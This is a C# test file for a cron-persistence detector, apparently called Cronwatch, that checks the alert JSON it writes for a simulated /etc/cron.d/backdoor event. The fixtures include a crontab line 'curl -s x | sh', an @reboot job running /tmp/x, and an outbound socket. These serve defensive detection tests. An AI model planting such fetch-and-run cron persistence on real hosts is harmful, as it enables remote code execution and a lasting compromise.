using System.Text;
using System.Text.Json;
using Cronwatch.Events;
using Cronwatch.Sinks.Alerts;
using Cronwatch.Sinks.Alerts.Guides;
using Cronwatch.Support;

namespace Cronwatch.Sinks.Tests;

public sealed class AlertDocumentTests
{
    internal const string Event = """
        {"@timestamp":"2026-01-15T09:57:12.180629612Z",
         "event":{"id":"e1","action":"creation","category":["file"],"kind":"event","sequence":7},
         "data_stream":{"type":"logs","dataset":"endpoint.events.file","namespace":"default"},
         "agent":{"id":"a1"},"host":{"id":"h1","name":"web-01"},
         "file":{"path":"/etc/cron.d/backdoor","name":"backdoor"},
         "process":{"pid":4711,"entity_id":"p1","name":"bash"},"user":{"id":0,"name":"root"}}
        """;

    private static readonly DateTimeOffset At = new(2026, 1, 15, 9, 55, 0, TimeSpan.Zero);

    internal static readonly GuideAnswers Answers = new(
        new AncestryAnswer(AnswerStatus.Late,
        [
            new(0, LinkStatus.Resolved)
            {
                EntityId = "p1", Pid = 4711, Name = "bash", Executable = "/usr/bin/bash", CommandLine = "bash -c <x>",
                User = new("0", "root"), RealUser = new("1030", null),
                Start = new(2026, 1, 15, 9, 57, 11, 940, TimeSpan.Zero), Sha256 = "ab",
            },
            new(1, LinkStatus.IdOnly) { EntityId = "p0" },
        ])
        {
            Entry = new("p9", "sshd", "sshd", "35.235.243.210"),
        },
        new UserAnswer(AnswerStatus.Resolved)
        {
            Real = new("1030", null),
            Effective = new("0", "root"),
            Behind = new(new("1030", "alice"), 1, "p0", "ancestor"),
        },
        TimeSpan.FromMilliseconds(120))
    {
        Origin = new(AnswerStatus.Resolved)
        {
            Kind = OriginKind.PackageManager,
            Name = "dpkg",
            Path = "/usr/bin/dpkg",
            Depth = 1,
            EntityId = "p0",
        },
        File = new(AnswerStatus.Resolved)
        {
            Path = "/etc/cron.d/backdoor",
            OriginalPath = "/etc/cron.d/.x",
            Name = "backdoor",
            Extension = "sh",
            Size = 62,
            Sha256 = "cd",
            Entropy = 4.5,
            Header = "23212f62696e2f73680a",
            Format = FileFormat.Script,
            Shebang = "#!/bin/sh",
        },
        Subject = new(AnswerStatus.Resolved, 21,
        [
            new()
            {
                Pid = 4712,
                Name = "curl",
                Executable = "/usr/bin/curl",
                CommandLine = "curl -s x",
                Start = new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero),
            },
        ]),
        RelatedAlerts = new(AnswerStatus.Resolved, new(2026, 1, 13, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 17, TimeSpan.Zero))
        {
            Host = new(21, [new("r-1", "Cron Job Created or Modified", 20), new("r-2", null, 1)],
                [new("a0", "r-1", new(2026, 1, 14, 3, 0, 0, TimeSpan.Zero), "medium", "web-01")]),
            User = AlertGroup.None,
            Scope = UserScope.AllHosts,
            Rules = [new("r-3", "Systemd Timer Created", 0)],
        },
        Prevalence = new(AnswerStatus.Resolved)
        {
            SameExecutableAndPath = new(1, 1, new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero)),
            SameExecutable = new(40, 52, new(2025, 3, 1, 0, 0, 0, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero)),
            SameFileHash = Sighting.None,
        },
        Processes = new(AnswerStatus.Resolved, At, true, 3, [new(new("0", "root"), 2), new(new("1030", null), 1)], 2,
            [new() { Pid = 4711, Name = "bash", Executable = "/usr/bin/bash", Start = new(2026, 1, 15, 9, 57, 11, TimeSpan.Zero) }]),
        Osquery = new()
        {
            Account = new(AnswerStatus.Resolved, At.AddMinutes(-55), 1,
                [SaidRow.Of(OsqueryQuery.Users, "uid=0; gid=0; username=root; description=root; directory=/root; shell=/bin/bash")]),
            Logins = new(AnswerStatus.Resolved, At, 2,
            [
                SaidRow.Of(OsqueryQuery.Logins, "type=user; user=alice; tty=pts/0; host=35.235.243.210; time=1768470000; pid=4600"),
                SaidRow.Of(OsqueryQuery.Logins, "type=dead; user=alice; tty=pts/1; time=0"),
            ]),
            CronAccess = new(AnswerStatus.Resolved, At, 2,
            [
                new("/etc/crontab", SaidRow.Of(OsqueryQuery.CronControl, "path=/etc/crontab; mode=0644; uid=0; gid=0; size=1042; mtime=1767225600; ctime=1767225601; btime=0")),
                new("/etc/cron.allow", null),
            ]),
            CronFiles = new(AnswerStatus.Late, At.AddMinutes(-55), 300,
            [
                new(SaidRow.Of(OsqueryQuery.CronFiles, "path=/etc/cron.d/x; type=regular; mode=0644; size=62; mtime=1767225600; ctime=1767225601; btime=1767225600"),
                    "root", "1002"),
            ]),
            Commands = new(AnswerStatus.Late, At, 2,
            [
                SaidRow.Of(OsqueryQuery.Crontab, "minute=*/5; hour=0; day_of_month=*; month=*; day_of_week=1-5; command=root curl -s x | sh"),
                SaidRow.Of(OsqueryQuery.Crontab, "event=@reboot; command=root /tmp/x"),
            ]),
            Ports = new(AnswerStatus.Resolved, At, 1,
                [new(SaidRow.Of(OsqueryQuery.Ports, "pid=812; address=0.0.0.0; port=22; protocol=6; family=2; path=/run/x"), "sshd", false, false)]),
            SubjectSockets = new(AnswerStatus.Resolved, At, 1,
            [
                new(SaidRow.Of(OsqueryQuery.Sockets, "pid=4711; family=2; remote_address=203.0.113.66; remote_port=443; state=ESTABLISHED"), "bash", true,
                    true),
            ]),
        },
        CronChanges = new(AnswerStatus.Resolved, new(2026, 1, 13, 9, 57, 12, TimeSpan.Zero), new(2026, 1, 15, 9, 57, 12, TimeSpan.Zero), 1,
        [
            new("0f", new(2026, 1, 14, 3, 0, 0, TimeSpan.Zero))
            {
                Action = "rename",
                Path = "/etc/cron.d/sysstat",
                OriginalPath = "/etc/cron.d/sysstat.dpkg-new",
                Process = "/usr/bin/dpkg",
                User = "root",
                Sha256 = "ef",
                AlertId = "a0",
                ExcludedBy = "process.name == \"dpkg\"",
            },
        ]),
    };

    private const string Expected = """
        {
          "@timestamp": "2026-01-15T09:57:13.250Z",
          "kibana.alert.original_time": "2026-01-15T09:57:12.180629612Z",
          "cronwatch.consumed_at": "2026-01-15T09:57:12.500Z",
          "cronwatch.detected_at": "2026-01-15T09:57:12.750Z",
          "cronwatch.lateness_ms": 319,
          "cronwatch.time_source": "@timestamp",
          "cronwatch.window.start": "2026-01-15T09:55:00Z",
          "cronwatch.window.end": "2026-01-15T10:00:00Z",
          "kibana.alert.start": "2026-01-15T09:57:13.250Z",
          "kibana.alert.last_detected": "2026-01-15T09:57:13.250Z",
          "kibana.alert.intended_timestamp": "2026-01-15T09:57:13.250Z",
          "cronwatch.elastic_would_have_missed": false,
          "cronwatch.elastic_miss_chance": 0,
          "event.kind": "signal",
          "kibana.space_ids": ["default"],
          "kibana.version": "9.0.1",
          "kibana.alert.uuid": "2255b03f",
          "kibana.alert.status": "active",
          "kibana.alert.workflow_status": "open",
          "kibana.alert.workflow_tags": [],
          "kibana.alert.workflow_assignee_ids": [],
          "kibana.alert.depth": 1,
          "kibana.alert.ancestors": [{"id": "e1", "type": "event", "index": "logs-endpoint.events.file-default", "depth": 0}],
          "kibana.alert.severity": "medium",
          "kibana.alert.risk_score": 47,
          "kibana.alert.reason": "file event with process bash, file backdoor, by root on web-01 created medium alert Cron Job Created or Modified.",
          "kibana.alert.rule.name": "Cron Job Created or Modified",
          "kibana.alert.rule.rule_id": "r-1",
          "kibana.alert.rule.uuid": "r-1",
          "kibana.alert.rule.version": 14,
          "kibana.alert.rule.revision": 0,
          "kibana.alert.rule.type": "eql",
          "kibana.alert.rule.rule_type_id": "siem.eqlRule",
          "kibana.alert.rule.category": "Event Correlation Rule",
          "kibana.alert.rule.consumer": "siem",
          "kibana.alert.rule.producer": "siem",
          "kibana.alert.rule.execution.uuid": "EXECUTION",
          "kibana.alert.rule.execution.type": "scheduled",
          "kibana.alert.rule.execution.timestamp": "2026-01-15T09:57:13.250Z",
          "kibana.alert.rule.severity": "medium",
          "kibana.alert.rule.risk_score": 47,
          "kibana.alert.rule.description": "A cron file.",
          "kibana.alert.rule.from": "now-9m",
          "kibana.alert.rule.to": "now",
          "kibana.alert.rule.interval": "5m",
          "kibana.alert.rule.max_signals": 100,
          "kibana.alert.rule.enabled": true,
          "kibana.alert.rule.immutable": false,
          "kibana.alert.rule.indices": ["logs-endpoint.events.file*"],
          "kibana.alert.rule.created_at": "2023-06-09T00:00:00.000Z",
          "kibana.alert.rule.updated_at": "2024-10-17T00:00:00.000Z",
          "kibana.alert.rule.created_by": "cronwatch",
          "kibana.alert.rule.updated_by": "cronwatch",
          "kibana.alert.rule.note": "## Triage",
          "kibana.alert.rule.author": ["Elastic"],
          "kibana.alert.rule.tags": ["OS: Linux"],
          "kibana.alert.rule.references": [],
          "kibana.alert.rule.false_positives": [],
          "kibana.alert.rule.threat": [{"framework": "MITRE ATT&CK", "tactic": {"id": "TA0003", "name": "Persistence"}}],
          "kibana.alert.rule.exceptions_list": [],
          "kibana.alert.rule.severity_mapping": [],
          "kibana.alert.rule.risk_score_mapping": [],
          "kibana.alert.rule.actions": [],
          "kibana.alert.rule.license": "Elastic License v2",
          "kibana.alert.rule.timestamp_override": "event.ingested",
          "kibana.alert.rule.parameters": {
            "description": "A cron file.", "from": "now-9m", "to": "now", "rule_id": "r-1", "severity": "medium",
            "type": "eql", "language": "eql", "risk_score": 47, "version": 14, "max_signals": 100, "immutable": false,
            "rule_source": {"type": "internal"}, "author": ["Elastic"], "exceptions_list": [], "false_positives": [],
            "references": [], "related_integrations": [], "required_fields": [], "risk_score_mapping": [],
            "severity_mapping": [],
            "threat": [{"framework": "MITRE ATT&CK", "tactic": {"id": "TA0003", "name": "Persistence"}}],
            "index": ["logs-endpoint.events.file*"], "license": "Elastic License v2", "query": "file where true",
            "timestamp_override": "event.ingested"
          },
          "cronwatch.kafka.topic": "logs-endpoint.events.file-default",
          "cronwatch.kafka.partition": 3,
          "cronwatch.kafka.offset": 42,
          "cronwatch.kafka.index": 0,
          "cronwatch.kafka.timestamp": "2026-01-15T09:57:12.180Z",
          "cronwatch.kafka.timestamp_type": "CreateTime",
          "cronwatch.outcome": "alert",
          "cronwatch.host_key": "host-1",
          "cronwatch.version": "0.1.0",
          "cronwatch.rule.name": "Cron Job Created or Modified",
          "cronwatch.rule.hash": "5f1d",
          "cronwatch.rule.file": "rules/cron.toml",
          "cronwatch.rule.setup": "## Setup",
          "cronwatch.rule.metadata": {"maturity": "production"},
          "cronwatch.context.status": "late",
          "cronwatch.context.held_ms": 120,
          "cronwatch.context.revision": 0,
          "cronwatch.context.resolved": 11,
          "cronwatch.context.late": 3,
          "cronwatch.context.missing": 0,
          "cronwatch.context.not_collected": 1,
          "guide.ancestry": {
            "status": "late", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "count": 2,
            "links": [
              {"depth": 0, "status": "resolved", "entity_id": "p1", "pid": 4711, "name": "bash",
               "executable": "/usr/bin/bash", "command_line": "bash -c <x>", "user": {"id": "0", "name": "root"},
               "real_user": {"id": "1030"}, "start": "2026-01-15T09:57:11.940Z", "sha256": "ab"},
              {"depth": 1, "status": "id-only", "entity_id": "p0"}
            ],
            "truncated": false,
            "entry": {"entity_id": "p9", "name": "sshd", "type": "sshd", "source_ip": "35.235.243.210"}
          },
          "guide.user": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "name": "root",
            "real": {"id": "1030"}, "effective": {"id": "0", "name": "root"},
            "behind": {"id": "1030", "name": "alice", "depth": 1, "entity_id": "p0", "basis": "ancestor"},
            "elevated": true, "uid": 0, "gid": 0, "description": "root", "directory": "/root", "shell": "/bin/bash",
            "record": {"status": "resolved", "as_of": "2026-01-15T09:00:00.000Z", "source": "osquery", "count": 1}
          },
          "guide.change_origin": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "kind": "package_manager",
            "name": "dpkg", "path": "/usr/bin/dpkg", "depth": 1, "entity_id": "p0"
          },
          "guide.script": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint",
            "path": "/etc/cron.d/backdoor", "original_path": "/etc/cron.d/.x", "name": "backdoor", "extension": "sh",
            "size": 62, "sha256": "cd", "entropy": 4.5, "header": "23212f62696e2f73680a", "format": "script",
            "shebang": "#!/bin/sh",
            "crontab": {"status": "late", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2},
            "commands": [
              {"schedule": "*/5 0 * * 1-5", "command": "root curl -s x | sh"},
              {"schedule": "@reboot", "command": "root /tmp/x"}
            ]
          },
          "guide.subject": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint", "count": 21,
            "children": [
              {"pid": 4712, "name": "curl", "executable": "/usr/bin/curl", "command_line": "curl -s x",
               "start": "2026-01-15T09:57:12.000Z"}
            ],
            "truncated": true,
            "network": {"status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 1},
            "sockets": [
              {"pid": 4711, "family": 2, "remote_address": "203.0.113.66", "remote_port": 443, "state": "ESTABLISHED",
               "process": "bash", "in_tree": true, "of_user": true}
            ]
          },
          "guide.related_alerts": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "alerts",
            "window": {"from": "2026-01-13T09:57:12.000Z", "to": "2026-01-15T09:57:17.000Z"},
            "host": {
              "count": 21,
              "by_rule": [
                {"rule_id": "r-1", "name": "Cron Job Created or Modified", "count": 20}, {"rule_id": "r-2", "count": 1}
              ],
              "items": [
                {"id": "a0", "rule_id": "r-1", "time": "2026-01-14T03:00:00.000Z", "severity": "medium", "host": "web-01"}
              ],
              "truncated": true
            },
            "user": {"count": 0, "by_rule": [], "items": [], "truncated": false},
            "scope": "all_hosts",
            "rules": [{"rule_id": "r-3", "name": "Systemd Timer Created", "count": 0}]
          },
          "guide.prevalence": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "alerts", "basis": "alerts",
            "same_executable_and_path": {
              "hosts": 1, "alerts": 1, "first_seen": "2026-01-15T09:57:12.000Z", "last_seen": "2026-01-15T09:57:12.000Z"
            },
            "same_executable": {
              "hosts": 40, "alerts": 52, "first_seen": "2025-03-01T00:00:00.000Z", "last_seen": "2026-01-15T09:57:12.000Z"
            },
            "same_file_hash": {"hosts": 0, "alerts": 0}
          },
          "guide.cron_changes": {
            "status": "resolved", "as_of": "2026-01-15T09:57:12.870Z", "source": "endpoint",
            "window": {"from": "2026-01-13T09:57:12.000Z", "to": "2026-01-15T09:57:12.000Z"}, "count": 1,
            "changes": [
              {"time": "2026-01-14T03:00:00.000Z", "action": "rename", "path": "/etc/cron.d/sysstat",
               "original_path": "/etc/cron.d/sysstat.dpkg-new", "process": "/usr/bin/dpkg", "user": "root", "sha256": "ef",
               "alert_id": "a0", "excluded_by": "process.name == \"dpkg\""}
            ],
            "truncated": false
          },
          "guide.logins": {
            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2, "active": true,
            "logins": [
              {"type": "user", "user": "alice", "tty": "pts/0", "host": "35.235.243.210", "time": "2026-01-15T09:40:00.000Z", "pid": 4600},
              {"type": "dead", "user": "alice", "tty": "pts/1"}
            ],
            "truncated": false
          },
          "guide.cron_access": {
            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 2,
            "files": [
              {"path": "/etc/crontab", "exists": true, "mode": "0644", "uid": 0, "gid": 0, "size": 1042,
               "mtime": "2026-01-01T00:00:00.000Z", "ctime": "2026-01-01T00:00:01.000Z"},
              {"path": "/etc/cron.allow", "exists": false}
            ],
            "truncated": false
          },
          "guide.cron_files": {
            "status": "late", "as_of": "2026-01-15T09:00:00.000Z", "source": "osquery", "count": 300,
            "files": [
              {"path": "/etc/cron.d/x", "type": "regular", "mode": "0644", "owner": "root", "group": "1002", "size": 62,
               "mtime": "2026-01-01T00:00:00.000Z", "ctime": "2026-01-01T00:00:01.000Z", "btime": "2026-01-01T00:00:00.000Z"}
            ],
            "truncated": true
          },
          "guide.processes": {
            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 3,
            "by_user": [{"user": "root", "count": 2}, {"user": "1030", "count": 1}], "count_of_user": 2,
            "of_user": [{"pid": 4711, "name": "bash", "executable": "/usr/bin/bash", "start": "2026-01-15T09:57:11.000Z"}],
            "truncated": true
          },
          "guide.listening_ports": {
            "status": "resolved", "as_of": "2026-01-15T09:55:00.000Z", "source": "osquery", "count": 1,
            "ports": [
              {"pid": 812, "address": "0.0.0.0", "port": 22, "protocol": 6, "family": 2, "path": "/run/x", "process": "sshd", "in_tree": false,
               "of_user": false}
            ],
            "truncated": false
          },
          "guide.open_sockets": {
            "status": "not_collected", "as_of": "2026-01-15T09:57:12.870Z", "source": "osquery", "count": 0,
            "sockets": [], "truncated": false
          },
          "cronwatch.guide_text": GUIDE,
          "cronwatch.event.digest": "DIGEST",
          "kibana.alert.original_event.id": "e1",
          "kibana.alert.original_event.action": "creation",
          "kibana.alert.original_event.category": ["file"],
          "kibana.alert.original_event.kind": "event",
          "kibana.alert.original_event.sequence": 7,
          "kibana.alert.original_data_stream.type": "logs",
          "kibana.alert.original_data_stream.dataset": "endpoint.events.file",
          "kibana.alert.original_data_stream.namespace": "default",
          "event": {"id": "e1", "action": "creation", "category": ["file"], "sequence": 7},
          "data_stream": {"type": "logs", "dataset": "endpoint.events.file", "namespace": "default"},
          "agent": {"id": "a1"},
          "host": {"id": "h1", "name": "web-01"},
          "file": {"path": "/etc/cron.d/backdoor", "name": "backdoor"},
          "process": {"pid": 4711, "entity_id": "p1", "name": "bash"},
          "user": {"id": 0, "name": "root"},
          "cronwatch.event.removed": [],
          "cronwatch.event.truncated": false
        }
        """;

    [Fact]
    public void Write_HitOfAReplay_SaysWhichAndWasIntendedWhenItHappened()
    {
        var replay = new ReplayRun("r-1", new(2026, 1, 15, 9, 0, 0, TimeSpan.Zero), To: null);
        var hit = Hits.Of(Event);
        var live = JsonElement.Parse(AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0"));
        var replayed = JsonElement.Parse(AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0", outcome: null, replay));
        Assert.Equal(("r-1", "2026-01-15T09:00:00.000Z", "manual"), (replayed.GetProperty("cronwatch.replay.id").GetString(),
            replayed.GetProperty("cronwatch.replay.from").GetString(), replayed.GetProperty("kibana.alert.rule.execution.type").GetString()));
        Assert.Equal(replayed.GetProperty("kibana.alert.original_time").GetString(), replayed.GetProperty("kibana.alert.intended_timestamp").GetString());
        string[] changed = ["kibana.alert.intended_timestamp", "kibana.alert.rule.execution.type", "cronwatch.replay.id", "cronwatch.replay.from"];
        Assert.Equal(Others(live), Others(replayed));

        IEnumerable<string> Others(JsonElement document) =>
            document.EnumerateObject().Where(member => !changed.Contains(member.Name)).Select(member => $"{member.Name}: {member.Value.GetRawText()}");
    }

    [Fact]
    public void Write_AlertsThatAreShownSomewhere_SayWhere()
    {
        var hit = Hits.Of(Event);
        var document = AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0", shownAt: "https://soc.example/alerts/");
        Assert.Equal($"https://soc.example/alerts/{hit.Id}", JsonElement.Parse(document).GetProperty("kibana.alert.url").GetString());
        Assert.False(JsonElement.Parse(AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0")).TryGetProperty("kibana.alert.url", out _));
    }

    [Fact]
    public void Write_ExceptedHit_SaysWhichItemAndIsWholeButForTheGuideText()
    {
        var hit = Hits.Of(Event);
        var alert = JsonElement.Parse(AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0"));
        var excepted = JsonElement.Parse(AlertDocument.Write(hit, Hits.Nothing, Hits.BuiltAt, "default", "0.1.0", new HitOutcome.Excepted("l", "i")));
        Assert.Equal(("excepted", "l", "i"), (excepted.GetProperty("cronwatch.outcome").GetString(),
            excepted.GetProperty("cronwatch.exception.list_id").GetString(), excepted.GetProperty("cronwatch.exception.item_id").GetString()));
        Assert.Equal(alert.EnumerateObject().Select(p => p.Name).Where(n => n != AnsweredGuide.Name), excepted.EnumerateObject().Select(p => p.Name).Where(n => !n.StartsWith("cronwatch.exception.", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData(true)]
    [InlineData(false)]
    public void Write_HitThatAnotherStandsFor_NamesItAndHasTheProcessAlone(bool isSuppressed)
    {
        HitOutcome outcome = isSuppressed ? new HitOutcome.Suppressed("a1") : new HitOutcome.Overflow("a1");
        var document = JsonElement.Parse(AlertDocument.Write(Hits.Of(Event), Hits.Nothing, Hits.BuiltAt, "default", "0.1.0", outcome));
        Assert.Equal((outcome.Name, "a1"), (document.GetProperty("cronwatch.outcome").GetString(), document.GetProperty("cronwatch.suppressed_by").GetString()));
        Assert.Equal(["guide.ancestry", "guide.user"], document.EnumerateObject().Select(p => p.Name).Where(n => n.StartsWith("guide.", StringComparison.Ordinal)));
    }

    [Fact]
    public void Write_FileEvent_IsThisDocument()
    {
        var execution = RuleFields.ExecutionOf("default", "r-1", new(2026, 1, 15, 9, 55, 0, TimeSpan.Zero));
        var guide = AnsweredGuide.Of(Hits.Of(Event), Answers, "2026-01-15T09:57:12.870Z");
        var expected = Expected.Replace("EXECUTION", execution, StringComparison.Ordinal).Replace("GUIDE", Compact(guide), StringComparison.Ordinal).Replace(
            "DIGEST", Sha256("2026-01-15T09:57:12.180629612Z|creation|/etc/cron.d/backdoor|p1"), StringComparison.Ordinal);
        var written = Hits.Document(Event, Answers);
        var want = Hits.Json(expected).EnumerateObject().Select(field => $"{field.Name}={Compact(field.Value)}");
        Assert.Equal(want, written.EnumerateObject().Select(field => $"{field.Name}={Compact(field.Value)}"));
    }

    [Fact]
    public void ExecutionOf_SpaceRuleWindow_IsAUuidOfVersion8()
    {
        var start = new DateTimeOffset(2026, 1, 15, 9, 55, 0, TimeSpan.Zero);
        var id = RuleFields.ExecutionOf("default", "r-1", start);
        var hash = Sha256("default|r-1|2026-01-15T09:55:00Z");
        Assert.Matches("^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$", id);
        Assert.Equal(hash[..12], id.Replace("-", "", StringComparison.Ordinal)[..12]);
        Assert.NotEqual(id, RuleFields.ExecutionOf("default", "r-1", start.AddMinutes(5)));
    }

    [Fact]
    public void Write_EventWithoutIds_NamesTheRecordAsAncestor()
    {
        var ancestor = Hits.Document("""{"a":1}""").GetProperty("kibana.alert.ancestors")[0];
        Assert.Equal("logs-endpoint.events.file-default/3/42/0", ancestor.GetProperty("id").GetString());
        Assert.Equal("logs-endpoint.events.file-default", ancestor.GetProperty("index").GetString());
    }

    [Theory]
    [InlineData("""{"@timestamp":"2026-01-15T09:57:12Z"}""", "2026-01-15T09:57:12Z", "@timestamp")]
    [InlineData("""{"@timestamp":"2026-01-15T10:57:12.1234567891+01:00"}""", "2026-01-15T09:57:12.1234567Z", "@timestamp")]
    [InlineData("""{"@timestamp":1768471032.18}""", "2026-01-15T09:57:12.180Z", "@timestamp")]
    [InlineData("""{"@timestamp":"soon","event":{"created":"2026-01-15T09:57:00Z"}}""", "2026-01-15T09:57:00Z", "event.created")]
    [InlineData("{}", "2026-01-15T09:57:12.180Z", "record")]
    public void Write_AnyTimestamp_SaysWhenAndByWhat(string json, string time, string source)
    {
        var document = Hits.Document(json);
        Assert.Equal(time, document.GetProperty("kibana.alert.original_time").GetString());
        Assert.Equal(source, document.GetProperty("cronwatch.time_source").GetString());
    }

    [Fact]
    public void Write_LastMomentOfAllTime_StillHasAWindow() =>
        Assert.Equal("9999-12-31T23:55:00Z", Hits.Document("""{"@timestamp":"9999-12-31T23:59:59Z"}""")
            .GetProperty("cronwatch.window.start").GetString());

    [Fact]
    public void Write_BytesThatAreNoJson_KeepsThemAsText()
    {
        var hit = Hits.Of("{}");
        hit.Event.SetRaw("{\"a\":\xff"u8);
        var document = Hits.Document(hit);
        Assert.StartsWith("{\"a\":", document.GetProperty("cronwatch.event.raw").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public void Write_HugeEventAndHugeAncestry_StaysUnder900KilobytesAndSaysSo()
    {
        var text = new string('\u0001', 300_000);
        var json = JsonSerializer.Serialize(new
        {
            process = new { name = text, args = Enumerable.Repeat(text[..4_000], 50) },
            @event = new { action = text, code = text, id = text },
            file = new { path = text },
            custom = text,
        });
        var links = Enumerable.Range(0, 32).Select(i => new AncestryLink(i, LinkStatus.Resolved) { CommandLine = text, Executable = text, Name = text });
        var group = new AlertGroup(
            20, [.. Enumerable.Repeat(new RuleCount(text, text, 1), 20)], [.. Enumerable.Repeat(new RelatedAlert("a0", text, Hits.BuiltAt, text, text), 20)]);
        var hit = Hits.Of(json);
        var document = AlertDocument.Write(
            hit, Answers with
            {
                Ancestry = new(AnswerStatus.Resolved, [.. links]),
                Subject = new(AnswerStatus.Resolved, 20, [.. Enumerable.Repeat(new ChildProcess { CommandLine = text, Name = text }, 20)]),
                RelatedAlerts = Answers.RelatedAlerts with { Host = group, User = group },
                Processes = Answers.Processes with { OfUser = [.. Enumerable.Repeat(new ChildProcess { Executable = text, Name = text }, 50)] },
                Osquery = Full(text),
            },
            Hits.BuiltAt, "default", "0.1.0");
        Assert.InRange(document.Length, 1, 900 * 1_024);
        var read = Hits.Json(Encoding.UTF8.GetString(document));
        Assert.True(read.GetProperty("cronwatch.event.truncated").GetBoolean());
        Assert.True(read.GetProperty("guide.ancestry").GetProperty("truncated").GetBoolean());
        Assert.True(read.GetProperty("guide.subject").GetProperty("truncated").GetBoolean());
        Assert.True(read.GetProperty("guide.related_alerts").GetProperty("host").GetProperty("truncated").GetBoolean());
        Assert.Equal(32, read.GetProperty("guide.ancestry").GetProperty("count").GetInt32());
        Assert.False(read.TryGetProperty("custom", out _));
        Assert.InRange(read.GetProperty(AnsweredGuide.Name).GetString()!.Length, 1, 32 * 1_024);
    }

    [Theory]
    [InlineData('<')]
    [InlineData('"')]
    [InlineData('\uFFFF')]
    public void Write_TextThatGrowsWhenEscaped_StaysUnder900Kilobytes(char one)
    {
        var text = new string(one, 60_000);
        var hit = Hits.Of("{}");
        hit.Event.SetRaw(Encoding.UTF8.GetBytes($$"""{"event":{"original":"{{JsonEncodedText.Encode(text)}}"},"b":"{{JsonEncodedText.Encode(text)}}"}"""));
        Assert.InRange(AlertDocument.Write(hit, Answers, Hits.BuiltAt, "default", "0.1.0").Length, 1, 900 * 1_024);
    }

    [Fact]
    public void Write_EventOf200Kilobytes_IsCopiedWhole()
    {
        var document = Hits.Document($$"""{"custom":"{{new string('x', 200_000)}}"}""");
        Assert.Equal(200_000, document.GetProperty("custom").GetString()!.Length);
        Assert.False(document.GetProperty("cronwatch.event.truncated").GetBoolean());
    }

    internal static OsqueryAnswers Full(string text)
    {
        var login = SaidRow.Of(OsqueryQuery.Logins, $"type={text}; user={text}; tty={text}; host={text}");
        var file = SaidRow.Of(OsqueryQuery.CronFiles, $"path={text}; type={text}; mode={text}");
        var line = SaidRow.Of(OsqueryQuery.Crontab, $"event={text}; command={text}");
        var socket = new HeldSocket(SaidRow.Of(OsqueryQuery.Sockets, $"remote_address={text}; state={text}"), text, true, false);
        var port = new HeldSocket(SaidRow.Of(OsqueryQuery.Ports, $"address={text}; path={text}"), text, true, false);
        return new()
        {
            Account = new(AnswerStatus.Resolved, At, 1, [SaidRow.Of(OsqueryQuery.Users, $"description={text}; directory={text}; shell={text}")]),
            Logins = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(login, 20)]),
            CronFiles = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(new ListedFile(file, text, text), 100)]),
            CronAccess = new(AnswerStatus.Resolved, At, 3, [.. Enumerable.Repeat(new ControlFile("/etc/crontab", file), 3)]),
            Commands = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(line, 20)]),
            Ports = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(port, 100)]),
            Sockets = new(AnswerStatus.Resolved, At, 100, [.. Enumerable.Repeat(socket, 100)]),
            SubjectSockets = new(AnswerStatus.Resolved, At, 20, [.. Enumerable.Repeat(socket, 20)]),
        };
    }

    private static string Compact<T>(T value) => JsonSerializer.Serialize(value);

    private static string Sha256(string text) =>
        Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(Encoding.UTF8.GetBytes(text)));
}
